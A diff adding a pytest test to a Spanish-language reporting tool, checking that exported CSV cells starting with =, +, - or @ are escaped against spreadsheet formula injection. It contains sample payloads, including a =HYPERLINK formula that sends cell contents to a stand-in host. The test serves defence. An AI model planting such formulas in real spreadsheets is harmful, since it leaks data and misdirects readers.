@@ -23,6 +23,8 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
+from edits import cell
+
 from informe import build, cli, export
 
 MINIMAL = Path(__file__).parent / "fixtures" / "minimal"
@@ -159,6 +161,24 @@ def test_nothing_infinite_is_published(tmp_path, capsys):
     err = capsys.readouterr().err
     assert "AC-2-01" in err and "avance_meta_pct" in err and "infinito" in err
     assert not (out / "datos").exists()
+
+
+def test_a_text_that_would_be_a_formula_opens_as_text(tmp_path):
+    """A spreadsheet opening the CSV runs a cell that starts with = + - @ as a formula (=HYPERLINK sends the
+    reader away): such a text gets a leading apostrophe; numbers, also negative ones, are never touched."""
+    data = tmp_path / "datos"
+    shutil.copytree(MINIMAL, data)
+    payloads = {"nombre": '=HYPERLINK("http://ejemplo.invalid/?"&A1,"Ver")', "fuente": "@SUM(1+1)"}
+    for column, text in payloads.items():
+        cell("indicadores.csv", 2, column, text)(data)
+    cell("resultados.csv", 7, "nota", "-2+3 (cifra preliminar)")(data)
+    _, rows = read_csv(exported(tmp_path / "salida", "--data", str(data)) / "indicadores_2023.csv")
+    by_id = {r["indicador_id"]: r for r in rows}
+    assert by_id["AC-1-01"]["nombre"] == "'" + payloads["nombre"]
+    assert by_id["AC-1-01"]["fuente"] == "'" + payloads["fuente"]
+    assert by_id["AC-2-01"]["nota"] == "'-2+3 (cifra preliminar)"
+    assert by_id["AC-1-02"]["nombre"] == "Días promedio de respuesta a solicitudes"  # any other text as it is
+    assert export.csv_cell(-3.5) == "-3.5" and export.csv_cell("-3.5") == "'-3.5"
 
 
 def test_numbers_are_plain_text():
